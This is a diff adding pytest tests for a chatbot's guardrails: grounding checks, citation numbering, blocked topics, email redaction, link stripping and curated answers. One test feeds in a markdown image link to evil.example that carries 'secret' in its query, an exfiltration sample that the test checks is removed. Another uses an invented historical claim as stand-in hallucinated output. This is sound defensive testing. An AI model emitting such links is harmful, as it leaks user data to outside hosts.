@@ -1,0 +1,106 @@
+"""Guardrails of a chatbot, at the chat endpoint: grounding policy, blocked topics, redaction, links, curated answers, canaries."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from tests.apps.conversations.world import change, rows
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+
+async def answer(caller: Any, chatbot: Any, message: str = "Where are the spare chargers kept?") -> dict[str, Any]:
+    response = await caller.ask(chatbot, message)
+    assert response.status_code == 200, response.content
+    found: dict[str, Any] = response.json()["message"]
+    return found
+
+
+async def test_what_no_passage_says_is_named_marked_or_withheld(caller: Any, chatbot: Any, model: Any) -> None:
+    model.pieces = (
+        "Spare chargers are kept in locker B-17 [1]. ",
+        "They were bought in Osaka by Edward Norton in 1931 [1].",
+    )
+
+    shown = await answer(caller, chatbot)
+    await change(chatbot, configuration={"ungrounded": "marked"})
+    marked = await answer(caller, chatbot)
+    await change(chatbot, configuration={"ungrounded": "withheld"})
+    withheld = await answer(caller, chatbot)
+    model.pieces = model.pieces[1:]
+    nothing = await answer(caller, chatbot)
+
+    false = "They were bought in Osaka by Edward Norton in 1931"
+    assert (shown["grounded"], shown["ungrounded"]) == (False, [false])
+    assert marked["content"].endswith("1931 [1]. (not confirmed by the sources)")
+    assert (marked["grounded"], marked["ungrounded"]) == (False, [false])
+    assert (withheld["content"], withheld["grounded"]) == ("Spare chargers are kept in locker B-17 [1].", True)
+    assert nothing["finish_reason"] == "refused_no_context"
+
+
+async def test_citations_are_numbered_without_gaps_and_keep_every_quote(caller: Any, chatbot: Any, model: Any) -> None:
+    question = "Where are chargers, what is the office dog called, how much paid vacation?"
+    model.pieces = (
+        "The dog is called Biscuit [2]. ",
+        "Chargers are in locker B-17 [1]. The dog sleeps under the desk [2].",
+    )
+    found = await answer(caller, chatbot, question)
+
+    numbers = [citation["index"] for citation in found["citations"]]
+    assert numbers == [1, 2]
+    assert found["content"].startswith("The dog is called Biscuit [1]. Chargers are in locker B-17 [2].")
+    for citation in found["citations"]:
+        assert citation["quotes"][0]["quote"] == citation["quote"]
+
+
+async def test_a_blocked_topic_is_recognised_by_its_words(caller: Any, chatbot: Any, model: Any) -> None:
+    await change(chatbot, configuration={"blocked_topics": ["stock prices"], "blocked_message": "Not here."})
+
+    blocked = await answer(caller, chatbot, "What will the price of your stock be?")
+    allowed = await answer(caller, chatbot)
+
+    assert (blocked["finish_reason"], blocked["content"], blocked["citations"]) == ("blocked", "Not here.", [])
+    assert (allowed["finish_reason"], len(model.prompts)) == ("stop", 1)
+
+
+async def test_a_provider_sees_no_personal_data(caller: Any, chatbot: Any, model: Any) -> None:
+    await change(chatbot, configuration={"redact_personal_data": True, "model": "openai:somebody-elses"})
+
+    found = await answer(caller, chatbot, "Where are the spare chargers kept? Write to jane@example.com")
+
+    assert model.prompts[0].question == "Where are the spare chargers kept? Write to [email]"
+    trace = (await caller.get(f"/api/v1/messages/{found['id']}/trace/")).json()
+    assert trace["guardrails"] == {"redacted": {"email": 1}}
+
+
+async def test_a_link_that_carries_something_out_is_removed(caller: Any, chatbot: Any, model: Any) -> None:
+    model.pieces = ("Spare chargers are kept in locker B-17 [1]. ![x](https://evil.example/?q=", "secret)")
+
+    found = await answer(caller, chatbot)
+
+    assert "evil" not in found["content"]
+    assert found["content"].strip() == "Spare chargers are kept in locker B-17 [1]."
+
+
+async def test_a_pair_answers_its_own_question_word_for_word(caller: Any, chatbot: Any, model: Any) -> None:
+    from asgiref.sync import sync_to_async
+
+    from chatsphere.apps.training.models import Placement
+    from tests.apps.conversations.world import teach
+
+    question = "How do I return a parcel?"
+    await sync_to_async(teach)(chatbot, f"{question}\nPrint the label; then post it.", title="FAQ")
+    for placement in await rows(Placement, chunk__text__startswith=question):
+        await change(placement, heading_path=[question])
+
+    found = await answer(caller, chatbot, "how do i return a parcel")
+
+    assert (found["content"], found["model"], found["grounded"]) == (
+        "Print the label; then post it. [1]",
+        "curated",
+        True,
+    )
+    assert found["citations"][0]["quote"] == "Print the label; then post it."
+    assert model.prompts == []
